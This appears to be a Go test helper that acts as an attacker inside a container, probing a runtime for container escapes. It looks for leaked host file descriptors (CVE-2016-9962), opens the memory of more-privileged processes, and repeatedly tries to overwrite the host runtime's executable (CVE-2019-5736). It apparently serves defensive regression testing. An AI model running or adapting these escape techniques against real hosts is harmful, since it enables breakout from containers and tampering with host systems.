// Command attack is what an attacker runs in a container of the tests: it looks
// for what a runtime shows of itself while it starts further processes there. It
// prints what it has got, one line each, and stays until it is killed.
package main

import (
	"fmt"
	"os"
	"strconv"
	"strings"

	"golang.org/x/sys/unix"
)

func main() {
	tricks := map[string]func(pid int){"descriptors": descriptors, "trace": trace, "overwrite": overwrite}
	if len(os.Args) != 2 || tricks[os.Args[1]] == nil {
		fmt.Fprintln(os.Stderr, "attack: descriptors, trace or overwrite")
		os.Exit(2)
	}
	fmt.Println("ready")
	for {
		for _, pid := range others() {
			tricks[os.Args[1]](pid)
		}
	}
}

// others lists the processes of the container, but us.
func others() (pids []int) {
	proc, err := os.Open("/proc")
	if err != nil {
		return nil
	}
	defer proc.Close()
	names, _ := proc.Readdirnames(-1)
	for _, name := range names {
		if pid, err := strconv.Atoi(name); err == nil && pid != os.Getpid() {
			pids = append(pids, pid)
		}
	}
	return pids
}

// told is what has been printed, so that it is printed once.
var told = map[string]bool{}

func tell(format string, args ...any) {
	if line := fmt.Sprintf(format, args...); !told[line] {
		told[line] = true
		fmt.Println(line)
	}
}

// descriptors looks at what another process has open: a directory of the host
// is the way out (CVE-2016-9962).
func descriptors(pid int) {
	tell("saw %d", pid)
	dir := fmt.Sprintf("/proc/%d/", pid)
	fds, err := os.Open(dir + "fd")
	if err != nil {
		return
	}
	defer fds.Close()
	names, _ := fds.Readdirnames(-1)
	for _, name := range append(names, "../cwd", "../root") {
		if outside(dir + "fd/" + name) {
			to, _ := os.Readlink(dir + "fd/" + name)
			tell("host: fd/%s of a process leads to %s", name, to)
		}
	}
}

// outside tells whether a link of procfs leads to a directory whose mount is not
// one of ours, or to a file there that can be changed: that a runtime executes is
// on a read-only mount, or sealed.
func outside(link string) bool {
	fd, err := unix.Open(link, unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return false
	}
	defer unix.Close(fd)
	var st unix.Statx_t
	var fs unix.Statfs_t
	if unix.Statx(fd, "", unix.AT_EMPTY_PATH, unix.STATX_MNT_ID|unix.STATX_TYPE, &st) != nil || unix.Fstatfs(fd, &fs) != nil {
		return false
	}
	kind := uint32(st.Mode) & unix.S_IFMT
	file := kind == unix.S_IFREG && fs.Flags&unix.ST_RDONLY == 0 && !sealed(fd)
	return (kind == unix.S_IFDIR || file) && foreign(st.Mnt_id)
}

// sealed tells whether a file is one in memory that nobody can write to any more
// (fcntl(2), F_SEAL_WRITE).
func sealed(path int) bool {
	fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", path), unix.O_RDONLY|unix.O_CLOEXEC|unix.O_NONBLOCK, 0)
	if err != nil {
		return false
	}
	defer unix.Close(fd)
	const all = unix.F_SEAL_SEAL | unix.F_SEAL_WRITE | unix.F_SEAL_GROW | unix.F_SEAL_SHRINK
	seals, err := unix.FcntlInt(uintptr(fd), unix.F_GET_SEALS, 0)
	return err == nil && seals&all == all
}

// foreign tells whether a mount is none of ours.
func foreign(mount uint64) bool {
	mounts, err := os.ReadFile("/proc/self/mountinfo")
	return err == nil && !strings.Contains("\n"+string(mounts), fmt.Sprintf("\n%d ", mount))
}

// trace asks for the memory of other processes, which is given to those who could
// also attach to them (ptrace(2), "Ptrace access mode checking"). One with more
// capabilities than ours is a runtime that has not given them up yet.
func trace(pid int) {
	tell("saw %d", pid)
	mem, err := os.OpenFile(fmt.Sprintf("/proc/%d/mem", pid), os.O_RDWR, 0)
	if err != nil {
		return
	}
	defer mem.Close()
	if own, theirs := permitted("self"), permitted(strconv.Itoa(pid)); theirs&^own != 0 {
		tell("host: memory of a process with capabilities %x", theirs)
	}
}

func permitted(pid string) uint64 {
	text, _ := os.ReadFile("/proc/" + pid + "/status")
	_, rest, _ := strings.Cut(string(text), "CapPrm:\t")
	n, _ := strconv.ParseUint(strings.SplitN(rest, "\n", 2)[0], 16, 64)
	return n
}

// overwrite tries to write to the programs that other processes run, once they
// do not run any more, and spares those of the container (CVE-2019-5736).
func overwrite(pid int) {
	exe, err := unix.Open(fmt.Sprintf("/proc/%d/exe", pid), unix.O_PATH|unix.O_CLOEXEC, 0)
	if err != nil {
		return
	}
	defer unix.Close(exe)
	var st unix.Statx_t
	if unix.Statx(exe, "", unix.AT_EMPTY_PATH, unix.STATX_MNT_ID, &st) != nil || !foreign(st.Mnt_id) {
		return
	}
	tell("saw a program of the host")
	for range 20000 {
		fd, err := unix.Open(fmt.Sprintf("/proc/self/fd/%d", exe), unix.O_WRONLY|unix.O_TRUNC|unix.O_CLOEXEC, 0)
		if err == nil {
			_, _ = unix.Write(fd, []byte("#!/bin/sh\n: overwritten\n"))
			unix.Close(fd)
			tell("host: overwrote a program")
			return
		}
		if err != unix.ETXTBSY {
			tell("refused: %v", err)
			return
		}
	}
}
